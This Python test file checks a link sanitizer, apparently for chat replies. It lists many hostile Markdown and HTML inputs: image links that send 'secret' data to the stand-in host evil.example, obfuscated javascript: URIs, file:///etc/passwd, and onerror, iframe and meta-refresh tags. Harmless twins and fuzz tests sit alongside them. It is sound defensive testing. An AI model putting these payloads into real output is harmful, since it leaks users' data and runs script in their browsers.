"""Addresses that lead elsewhere, made harmless: shapes of attack, and their harmless twins."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from chat.turn.checks import hosts, links

EVIL = "https://evil.example/p?d=secret"
MAY = hosts.of(
    allowed=("https://shop.example", "https://*.help.example"),
    texts=[
        "Reset it at https://docs.example/reset?x=1 or write to help@docs.example.",
        "The [manual](https://manuals.example/a_(b).pdf) tells more.",
    ],
)
HOSTILE = {
    f"![x]({EVIL})": "x",
    f"![]({EVIL})": "",
    f"![a picture]({EVIL} 'title')": "a picture",
    f"![a](<{EVIL}>)": "a",
    f"![a](\n{EVIL})": "a",
    f"![a [b]({EVIL}) c]({EVIL})": "a b c",
    f"[![a]({EVIL})]({EVIL})": "a",
    f"[![a]({EVIL})](https://shop.example/)": "[a](https://shop.example/)",
    f"[our docs]({EVIL}) now": "our docs now",
    f'[a]({EVIL} "title")': "a",
    "[a](HTTPS://EVIL.EXAMPLE/)": "a",
    "[a](//evil.example/x)": "a",
    "[a](/\\evil.example/x)": "a",
    "[a](\\\\evil.example/x)": "a",
    "[a](https:evil.example)": "a",
    "[a](http:/evil.example)": "a",
    "[a](https://shop.example@evil.example/)": "a",
    "[a](https://shop.example:x@evil.example/)": "a",
    "[a](https://shop.example.evil.example/)": "a",
    "[a](https://evilshop.example/)": "a",
    "[a](http://shop.example/)": "a",
    "[a](https://docs.example/reset?x=secret)": "a",
    "[a](https://docs.example/reset?x=1&d=secret)": "a",
    "![a](https://docs.example/reset?x=1)": "a",
    "![a](/logout)": "a",
    "[a](javascript:alert(1))": "a",
    "[a](JaVaScRiPt:alert(1))": "a",
    "[a](java&Tab;script:alert(1))": "a",
    "[a](&#106;avascript:alert(1))": "a",
    "[a](&#x6A;avascript:alert(1))": "a",
    "[a](javascript&colon;alert(1))": "a",
    "[a](java\\script:alert(1))": "a",
    "[a](vbscript:x)": "a",
    "[a](data:text/html;base64,PHNjcmlwdD4=)": "a",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)": "a",
    "[a](file:///etc/passwd)": "a",
    "[a](mailto:evil@evil.example?body=secret)": "a",
    "[a](mailto:help@docs.example?body=secret)": "a",
    "[1](https://evil.example/)": "[1]",
    f"`![x]({EVIL})`": "`x`",
    f"``` ![x]({EVIL})": "``` x",
    f"\\`![x]({EVIL})\\`": "\\`x\\`",
    "see https://evil.example/p?d=secret.": "see evil.example.",
    "see http://evil.example": "see evil.example",
    "ftp://evil.example/secret": "evil.example",
    "www.evil.example/x?d=secret": "evil.example",
    "//evil.example/secret": "evil.example",
    "https&colon;//evil.example/secret": "evil.example",
    "https:\\/\\/evil.example/secret": "evil.example",
    "&#104;ttps://evil.example/secret": "evil.example",
    "htt<!-- -->ps://evil.example/secret": "evil.example",
    "<https://evil.example/secret>": "evil.example",
    "<javascript:alert(1)>": "alert(1)",
    "[x]: https://evil.example/secret": "",
    "![a][x]\n\n[x]: https://evil.example/secret": "![a][x]\n\n",
    "[x]:\nhttps://evil.example/secret": "",
    "[x]: <https://evil.example/a b>": "",
    "> [x]: //evil.example/secret": "> ",
    "<img src=x onerror=alert(1)>ok": "ok",
    f'<img alt="a cat" src="{EVIL}">': "a cat",
    f"<IMG/SRC={EVIL}>": "",
    f"<img src={EVIL}": "< img src=evil.example",
    f"<a href='{EVIL}'>click</a>": "click",
    f"<iframe src={EVIL}></iframe>": "",
    "<script>alert(1)</script>": "alert(1)",
    f"<link rel=stylesheet href={EVIL}>": "",
    f'<meta http-equiv=refresh content="0;url={EVIL}">': "",
    f"<svg><image href={EVIL} /></svg>": "",
    f"<x style=background:url({EVIL})>a": "a",
    "<x onclick=alert(1)>a": "a",
    "<b onmouseover=alert(1)>a</b>": "a</b>",
    f"<form action={EVIL}><input name=d></form>": "",
    f"<video poster={EVIL}>": "",
    "data:text/html,x": "data: text/html,x",
    "javascript:alert(1)": "javascript: alert(1)",
    f"[x]({EVIL}": "x",
    f"text]({EVIL})": "text]",
    "[a](": "[a] (",
    "[a](https://evil。example/)": "a",
}
HARMLESS = [
    "Orders over $50 ship free [1].",
    "![logo](https://shop.example/logo.png)",
    "[our shop](https://shop.example/returns?order=1)",
    "[help](https://www.help.example/a) and https://de.help.example/b!",
    "[reset](https://docs.example/reset?x=1)",
    "Go to https://docs.example/reset?x=1.",
    "<https://docs.example/reset?x=1>",
    "[manual](https://manuals.example/a_(b).pdf)",
    "[manual](https://manuals.example/a_(b).pdf 'The manual')",
    "[returns](/returns), [top](#top)",
    "[write](mailto:help@docs.example) or [call](tel:+4912345)",
    "help@docs.example",
    "[x]: https://docs.example/reset?x=1",
    "According to [1]: free",
    "a < b and c > d",
    "List<String> and <T>",
    "<b>bold</b>, H<sub>2</sub>O and <br>",
    "`arr[0](arg)` and `f(x)[1]`",
    "JavaScript: the good parts. Data: five rows.",
    "&lt;b&gt; is bold, AT&amp;T is a company",
    "At 12:30//13:00, and/or",
    "5 * 3 \\* 2, C:\\Users\\me",
    "| a | b |\n| --- | --- |",
    "See evil.example in your own time.",
    "```\ncurl -X POST\n```",
    "超过50美元的订单免运费[1]。",
    "- [ ] open\n- [x] done",
    "Re: your order (see [2])",
    "https",
    "",
]


@pytest.mark.parametrize(("written", "said"), HOSTILE.items())
def test_what_leads_elsewhere_is_said_in_words(written: str, said: str) -> None:
    assert links.clean(written, hosts=MAY).strip() == said.strip()


@pytest.mark.parametrize("text", HARMLESS)
def test_what_leads_nowhere_foreign_stays_as_it_is(text: str) -> None:
    assert links.clean(text, hosts=MAY) == text


class _Followed(HTMLParser):
    """The addresses that a browser would fetch or link."""

    def __init__(self) -> None:
        super().__init__()
        self.images: list[str] = []
        self.links: list[str] = []
        self.scripts = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.scripts = self.scripts or tag in {"script", "iframe", "style", "link", "meta", "object", "base", "form"}
        for name, value in attrs:
            self.scripts = self.scripts or name.startswith("on") or name in {"style", "srcdoc", "srcset"}
            if name in {"src", "poster", "background", "data"}:
                self.images.append(value or "")
            elif name in {"href", "action", "xlink:href"}:
                self.links.append(value or "")


def _foreign(address: str, *, image: bool) -> bool:
    parts = urlsplit(re.sub(r"[\x00-\x20]", "", address).replace("\\", "/"))
    if not parts.scheme and not parts.netloc:
        return False  # on the page's own site
    own = parts.hostname == "shop.example" or (parts.hostname or "").endswith(".help.example")
    return not (own and parts.scheme == "https") and (image or hosts.plain(address) not in MAY.shown)


def _followed(text: str) -> list[str]:
    """What of a text would be followed that is foreign, by a renderer that lets HTML through,
    or by a page that takes it for HTML."""
    found: list[str] = []
    rendered = [
        MarkdownIt(preset, {"html": True, "linkify": False}).render(text) for preset in ("commonmark", "gfm-like")
    ]
    for html in (*rendered, text):
        page = _Followed()
        page.feed(html)
        page.close()
        found += [address for address in page.images if _foreign(address, image=True)]
        found += [address for address in page.links if _foreign(address, image=False)]
        found += ["script"] * page.scripts
    return found


@pytest.mark.parametrize("written", HOSTILE)
def test_a_renderer_follows_nothing_foreign(written: str) -> None:
    assert _followed(links.clean(written, hosts=MAY)) == []


def test_the_renderer_of_these_tests_does_follow() -> None:
    for written in (f"![x]({EVIL})", f"[a]({EVIL})", f"<img src='{EVIL}'>", f"<{EVIL}>", f"[a][x]\n\n[x]: {EVIL}"):
        assert set(_followed(written)) == {EVIL}


parts = st.sampled_from(
    ["[", "]", "(", ")", "!", "<", ">", "`", "\\", ":", "/", "//", "\n", " ", '"', "'", "=",
     "&colon;", "&#47;", "&lt;",
     "https", "http", "javascript", "data", "https://", EVIL, "//evil.example",
     "evil.example", "www.", "img src", "a href",
     "x onerror=", "<!--", "-->", "[x]: ", "![", "](", "text", "[1]", "https://shop.example/", "。"]
)  # fmt: skip
texts = st.lists(parts, max_size=14).map("".join)


@given(texts)
def test_nothing_that_is_put_together_is_followed(text: str) -> None:
    cleaned = links.clean(text, hosts=MAY)
    assert _followed(cleaned) == []
    assert links.clean(cleaned, hosts=MAY) == cleaned


@given(texts, texts)
def test_nor_what_stands_in_two_sentences(one: str, other: str) -> None:
    glue = "\n"
    assert _followed(links.clean(one, hosts=MAY) + glue + links.clean(other, hosts=MAY)) == []
